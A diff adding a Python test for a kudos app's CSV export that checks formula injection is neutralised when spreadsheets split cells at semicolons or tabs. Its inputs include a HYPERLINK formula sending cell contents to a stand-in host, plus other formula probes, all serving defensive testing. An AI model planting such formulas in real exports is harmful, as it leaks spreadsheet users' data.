@@ -149,3 +149,28 @@ async def test_someone_slack_gives_no_real_name_is_named_by_their_handle(
         ("Ana Silva", "Ben Ode"),
         ("cy", "Ben Ode"),
     ]
+
+
+@pytest.mark.usefixtures("ledger")
+async def test_a_formula_after_a_semicolon_opens_as_text_where_excel_splits_there(
+    capsys: pytest.CaptureFixture[str], sessions: async_sessionmaker[AsyncSession]
+) -> None:
+    """Excel where the list separator is `;` (German, French…) opens a .csv split at `;`,
+    and LibreOffice with `;` or tab ticked: a reason typed `nice;=1+1;` made a cell `=1+1`
+    there, run as a formula, behind the `'` only the cell's start had. A winking `;-)`
+    stays as typed."""
+    clock = Clock()
+    clock.freeze(datetime(2026, 1, 8, 9, tzinfo=UTC))
+    kudos = KudosService(sessions, clock.now)
+    reasons = ('nice;=HYPERLINK("http://x.example/?"&A1;"hi");', "ok; @SUM(A1)\t-A1+1 ;-)")
+    for key, reason in enumerate(reasons):
+        await kudos.give(Giving("T1", ANA, (BEN,), reason, f"f{key}", "command"))
+    code, out, _err = await _export(["--since", "2026-01-08"], capsys)
+    messages = [r["message"] for r in csv.DictReader(io.StringIO(out))]
+    assert code == 0 and messages == [
+        'nice;\'=HYPERLINK("http://x.example/?"&A1;"hi");',
+        "ok;' @SUM(A1)\t'-A1+1 ;-)",
+    ]
+    for delimiter in (";", "\t"):
+        cells = [c for row in csv.reader(io.StringIO(out), delimiter=delimiter) for c in row]
+        assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@"))]
